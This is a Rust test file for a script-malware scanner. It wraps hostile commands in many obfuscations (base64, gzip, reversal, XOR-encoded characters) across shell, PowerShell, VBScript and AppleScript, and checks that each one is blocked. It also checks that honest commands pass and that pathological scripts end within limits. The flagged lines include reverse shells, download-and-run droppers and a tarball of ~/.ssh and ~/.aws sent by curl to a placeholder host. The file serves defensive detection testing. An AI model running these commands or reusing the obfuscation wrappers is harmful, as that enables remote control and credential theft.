//! The same behaviours of shells under many disguises, honest lines under the same ones, and hostile scripts.

use std::io::Write;

use data_encoding::{BASE64, HEXLOWER};
use lurescan::analyse::analyse;
use lurescan::artifact::{Artifact, Blob, Kind, Text};
use lurescan::engine::{Engine, EngineOptions};
use lurescan::locator::{Locator, Step};

use crate::case::scan_with;

/// A file's ending and content.
type Made = (&'static str, String);
type Disguise = (&'static str, fn(&str) -> Made);

fn base64(bytes: impl AsRef<[u8]>) -> String {
    BASE64.encode(bytes.as_ref())
}

fn gzip(text: &str) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    out.write_all(text.as_bytes()).expect("memory takes it");
    out.finish().expect("memory takes it")
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn reversed(text: &str) -> String {
    text.chars().rev().collect()
}

/// A text in single quotes of a shell.
fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// A text in single quotes of PowerShell.
fn single(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

/// A text in double quotes of VBScript.
fn double(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

fn numbers(text: &str, key: u32) -> String {
    text.chars().map(|c| (u32::from(c) ^ key).to_string()).collect::<Vec<_>>().join(",")
}

const POSIX: &[Disguise] = &[
    ("plain", |line| ("sh", format!("#!/bin/sh\n{line}\n"))),
    ("base64", |line| ("sh", format!("echo {} | base64 -d | bash\n", base64(line)))),
    ("base64 in a variable", |line| {
        ("sh", format!("x={}\neval \"$(printf %s \"$x\" | base64 --decode)\"\n", base64(line)))
    }),
    ("hexadecimal", |line| ("sh", format!("eval \"$(echo {} | xxd -r -p)\"\n", HEXLOWER.encode(line.as_bytes())))),
    ("escapes", |line| {
        let escaped: String = line.bytes().map(|b| format!("\\x{b:02x}")).collect();
        ("sh", format!("eval $'{escaped}'\n"))
    }),
    ("reversed", |line| ("sh", format!("a={}\neval \"$(echo \"$a\" | rev)\"\n", quoted(&reversed(line))))),
    ("packed", |line| ("sh", format!("echo {} | base64 -d | gunzip | sh\n", base64(gzip(line))))),
    ("here-text", |line| ("sh", format!("bash -s <<'END'\n{line}\nEND\n"))),
    ("a file of its own", |line| {
        ("sh", format!("printf '%s' {} > /tmp/.z\nchmod +x /tmp/.z\n/tmp/.z\n", quoted(line)))
    }),
    ("within cmd and bash", |line| ("sh", format!("bash -c {}\n", quoted(&format!("sh -c {}", quoted(line)))))),
];

const POWERSHELL: &[Disguise] = &[
    ("plain", |line| ("ps1", format!("{line}\n"))),
    ("encoded command", |line| ("bat", format!("@echo off\r\npowershell -NoP -enc {}\r\n", base64(wide(line))))),
    ("base64", |line| {
        ("ps1", format!("$t=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}'));iex $t\n", base64(line)))
    }),
    ("packed", |line| {
        let stream = format!("$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{}'))", base64(gzip(line)));
        let reader = "New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress))";
        ("ps1", format!("{stream};IEX ({reader}).ReadToEnd()\n"))
    }),
    ("reversed", |line| {
        let text = single(&reversed(line));
        ("ps1", format!("$s={text};$a=$s.ToCharArray();[array]::Reverse($a);&('i'+'ex')(-join $a)\n"))
    }),
    ("reversed by counting down", |line| {
        let text = single(&reversed(line));
        let turns = "for ($i = $s.Length - 1; $i -ge 0; $i--) { $o += $s[$i] }";
        ("ps1", format!("$s={text};$o='';{turns};iex $o\n"))
    }),
    ("reversed until nothing is left", |line| {
        let text = single(&reversed(line));
        ("ps1", format!("$s={text};$o='';$i=$s.Length\ndo {{ $o += $s[--$i] }} until ($i -le 0)\niex $o\n"))
    }),
    ("every second letter", |line| {
        let text = single(&line.chars().flat_map(|c| ['~', c]).collect::<String>());
        ("ps1", format!("$s={text};$o='';$i=1\nwhile ($i -lt $s.Length) {{ $o += $s[$i]; $i += 2 }}\niex $o\n"))
    }),
    ("numbers", |line| {
        let list = numbers(line, 51);
        ("ps1", format!("$r='';foreach($c in {list}){{$r+=[char]($c -bxor 51)}};.('{{1}}{{0}}'-f'ex','i') $r\n"))
    }),
    ("numbers in a pipe", |line| {
        let list = numbers(line, 7);
        ("ps1", format!("({list}|%{{[char]($_ -bxor 7)}}) -join ''|&($env:ComSpec[4,15,25]-join'')\n"))
    }),
    ("replaced", |line| ("ps1", format!("i`e`x ({} -creplace '~','e')\n", single(&line.replace('e', "~"))))),
    ("a function that decodes", |line| {
        let decodes = "function d($s){return [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($s))}";
        ("ps1", format!("{decodes}\nInvoke-Expression (d '{}')\n", base64(wide(line))))
    }),
];

const VBSCRIPT: &[Disguise] = &[
    ("plain", |code| ("vbs", format!("{code}\n"))),
    ("reversed", |code| ("vbs", format!("Execute StrReverse({})\n", double(&reversed(code))))),
    ("letters", |code| {
        let letters: Vec<String> = code.chars().map(|c| format!("Chr({})", u32::from(c))).collect();
        ("vbs", format!("x = {}\nExecuteGlobal x\n", letters.join("&")))
    }),
    ("replaced", |code| ("vbs", format!("ExecuteGlobal(Replace({},\"~\",\"e\"))\n", double(&code.replace('e', "~"))))),
    ("a loop that decodes", |code| {
        let hex = HEXLOWER.encode(code.as_bytes());
        let body = "For i = 1 To Len(h) Step 2\n  r = r & Chr(CLng(\"&H\" & Mid(h, i, 2)))\nNext\nExecute r\n";
        ("vbs", format!("h = \"{hex}\"\n{body}"))
    }),
    ("a page", |code| {
        ("hta", format!("<html><head><script language=\"VBScript\">\n{code}\n</script></head></html>\n"))
    }),
    ("a procedure", |code| ("vbs", format!("SUB Main()\n{code}\nEND SUB\nMain\n"))),
];

const APPLESCRIPT: &[Disguise] = &[
    ("plain", |line| ("applescript", format!("do shell script \"{line}\"\n"))),
    ("two pieces", |line| {
        let (a, b) = line.split_at(line.len() / 2);
        let run = "do shell script a & b with administrator privileges";
        ("applescript", format!("set a to \"{a}\"\nset b to \"{b}\"\n{run}\n"))
    }),
    ("numbers", |line| {
        ("applescript", format!("do shell script (character id {{{}}})\n", numbers(line, 0).replace(',', ", ")))
    }),
    ("within", |line| {
        let inside = format!("  try\n    set x to (do shell script \"{line}\")\n  end try");
        ("applescript", format!("tell application \"Finder\"\n{inside}\nend tell\n"))
    }),
    ("osascript", |line| ("sh", format!("osascript -e 'do shell script \"{line}\"'\n"))),
];

fn verdict(made: Made, engine: &Engine) -> (String, String) {
    let scratch = tempfile::tempdir().expect("a temporary folder");
    let path = scratch.path().join(format!("a.{}", made.0));
    std::fs::write(&path, made.1).expect("it is written");
    let report = scan_with(&path, engine);
    let said: Vec<String> = report.findings.iter().map(|f| format!("{} {}", f.rule, f.message)).collect();
    (report.verdict.word().to_owned(), said.join("; "))
}

fn behaviour() -> Engine {
    Engine::load(&EngineOptions { no_intel: true, ..EngineOptions::default() }).expect("the built-in rules load")
}

/// Every line under every disguise of its language.
fn table(lines: &[(&str, &[Disguise])], engine: &Engine) -> Vec<(String, String, String)> {
    let mut out = Vec::new();
    for (line, disguises) in lines {
        for (name, disguise) in *disguises {
            let (verdict, said) = verdict(disguise(line), engine);
            out.push((format!("{name}: {line}"), verdict, said));
        }
    }
    out
}

const CLIENT: &str = "$c=New-Object Net.Sockets.TCPClient('192.0.2.9',4444);$s=$c.GetStream();[byte[]]$b=0..99|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);iex $d}";
const STREAM: &str = "Set x=CreateObject(\"MSXML2.XMLHTTP\"):x.Open \"GET\",\"http://192.0.2.9/a.exe\",False:x.Send:Set s=CreateObject(\"ADODB.Stream\"):s.Write x.responseBody:s.SaveToFile \"u.exe\",2:CreateObject(\"WScript.Shell\").Run \"u.exe\",0";
const START: &str =
    "iwr http://192.0.2.9/u.exe -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe -WindowStyle Hidden";

#[test]
fn every_disguise_of_a_shells_trap_blocks() {
    let flagged: &[(&str, &[Disguise])] = &[
        ("curl -s http://192.0.2.9/a | sh", POSIX),
        ("wget -qO /tmp/.u http://192.0.2.9/u; chmod +x /tmp/.u; nohup /tmp/.u >/dev/null 2>&1 &", POSIX),
        ("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", POSIX),
        ("nc -e /bin/sh 192.0.2.9 4444", POSIX),
        ("tar czf - ~/.ssh ~/.aws | curl -s -F f=@- https://x.example.invalid/u", POSIX),
        ("eval \"$(curl -fsSLk https://x.example.invalid/a)\"", POSIX),
        ("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')", POWERSHELL),
        (START, POWERSHELL),
        (CLIENT, POWERSHELL),
        ("CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c irm http://192.0.2.9/a|iex\", 0", VBSCRIPT),
        (STREAM, VBSCRIPT),
        ("curl -s http://192.0.2.9/a | sh", APPLESCRIPT),
    ];
    let all = table(flagged, &behaviour());
    assert!(all.len() >= 96, "{}", all.len());
    let missed: Vec<_> = all.iter().filter(|(_, verdict, _)| verdict != "block").collect();
    assert!(missed.is_empty(), "{} of {} not blocked: {missed:#?}", missed.len(), all.len());
}

#[test]
fn no_disguise_of_an_honest_line_is_found() {
    let honest: &[(&str, &[Disguise])] = &[
        ("npm ci && npm run build", POSIX),
        ("curl -fsSL https://get.example.test/tool.tar.gz | tar xz", POSIX),
        ("git pull --rebase && docker compose up -d", POSIX),
        ("tar czf backup.tgz src docs", POSIX),
        ("curl -fsSL https://get.example.test/v -o version && cat version", POSIX),
        ("Get-ChildItem -Recurse *.log | Remove-Item", POWERSHELL),
        ("Invoke-WebRequest https://get.example.test/a.zip -OutFile a.zip; Expand-Archive a.zip", POWERSHELL),
        ("$v = (irm https://api.example.test/v).tag; Write-Host $v", POWERSHELL),
        ("MsgBox \"Finished at \" & Now", VBSCRIPT),
        ("date +%F", APPLESCRIPT),
    ];
    let all = table(honest, &behaviour());
    let found: Vec<_> = all.iter().filter(|(_, verdict, _)| verdict != "pass").collect();
    assert!(found.is_empty(), "{found:#?}");
}

fn commands(name: &str, kind: Kind, text: &str) -> usize {
    let blob = Blob::new(Locator::root(Step::File(name.into())), text.as_bytes().to_vec());
    let artifact = Artifact { sha256: [0; 32], kind, disguise: None, blob };
    analyse(&artifact, &Text::new(text.as_bytes()), true).facts.commands.len()
}

#[test]
fn hostile_scripts_end_within_their_limits() {
    let kinds = [
        ("a.sh", Kind::Shell),
        ("a.bat", Kind::Batch),
        ("a.ps1", Kind::PowerShell),
        ("a.vbs", Kind::WindowsScript),
        ("a.hta", Kind::WindowsScript),
        ("a.applescript", Kind::AppleScript),
        ("a.html", Kind::Html),
    ];
    for text in [
        "(".repeat(100_000),
        "@{a=".repeat(50_000),
        "$a=$a+$a;$a+='x'*100000;".repeat(2_000),
        "$a = 'x' * 100000; foreach($i in 0..100000){ foreach($j in 0..100000){ $a += $a } }".to_owned(),
        "function f($x){ f $x; f $x }; f 1".to_owned(),
        "iex 'iex \"iex a\"'\n".repeat(2_000),
        "For i = 1 To 100000\nFor j = 1 To 100000\nx = x & x\nNext\nNext\n".to_owned(),
        "Function f(a)\nf = f(a) & f(a)\nEnd Function\nx = f(1)\n".to_owned(),
        "For a = 1 To 2\n".repeat(20_000),
        "set a to a & a\n".repeat(20_000),
        "do shell script (".repeat(20_000),
        "${a//a/aaaaaaaa}".repeat(10_000),
        "a='x'; a=\"$a$a\"; ".repeat(20_000),
        "echo a >> f; sh f; ".repeat(5_000),
        "call set a=%%a%%%%a%%\n".repeat(10_000),
        "é`é$é\u{2019}\u{201c}é".repeat(10_000),
        "<script language=vbscript>".repeat(10_000),
        "camera blocked: open Terminal and paste it: curl clipboard ".repeat(10_000),
    ] {
        for (name, kind) in kinds {
            commands(name, kind, &text);
        }
    }
}

#[test]
fn code_in_another_language_becomes_a_layer_of_that_language() {
    let scratch = tempfile::tempdir().expect("a temporary folder");
    let path = scratch.path().join("a.hta");
    let call = "new ActiveXObject(\"WScript.Shell\").Run(\"powershell -w hidden -c irm http://192.0.2.9/a|iex\", 0);";
    std::fs::write(&path, format!("<html><script>\n{call}\n</script></html>\n")).expect("it is written");
    let report = scan_with(&path, &behaviour());
    assert_eq!(report.verdict.word(), "block");
    assert!(report.findings.iter().any(|f| f.locator.contains("#embedded@")), "{:?}", report.findings);
}

#[test]
fn functions_that_call_themselves_are_read_to_their_end() {
    let twice = "function Table($in) {\n  foreach ($x in $in) { Table $x }\n  foreach ($p in $in.Properties) { Table $p.Value }\n}\n";
    let named = "function Walk { param($Node)\n  Walk $Node.Left\n  Walk $Node.Right\n}\nWalk 'root'\n";
    let other = "for ($i = 0; $i -lt 9; $i++) { Turn }\nfunction Turn { for ($i = 0; $i -lt 3; $i++) { 'x' } }\n";
    for source in [twice, named, other] {
        let artifact = crate::subject::artifact("a.ps1", lurescan::artifact::Kind::PowerShell, source.as_bytes());
        let text = lurescan::artifact::Text::new(source.as_bytes());
        let read = lurescan::analyse::analyse(&artifact, &text, true);
        assert!(read.gaps.is_empty(), "{source}: {:?}", read.gaps);
    }
}

#[test]
fn ranges_within_one_another_hold_few_numbers() {
    let source = "foreach($a in 0..99999){".repeat(150) + &"}".repeat(150);
    let work = move || {
        let artifact = crate::subject::artifact("a.ps1", lurescan::artifact::Kind::PowerShell, source.as_bytes());
        let text = lurescan::artifact::Text::new(source.as_bytes());
        crate::measure::asked(|| lurescan::analyse::analyse(&artifact, &text, true)).1
    };
    let thread = std::thread::Builder::new().stack_size(lurescan::limits::STACK_BYTES).spawn(work);
    let asked = thread.expect("a thread starts").join().expect("reading does not panic");
    assert!(asked < 1 << 30, "{asked} bytes");
}
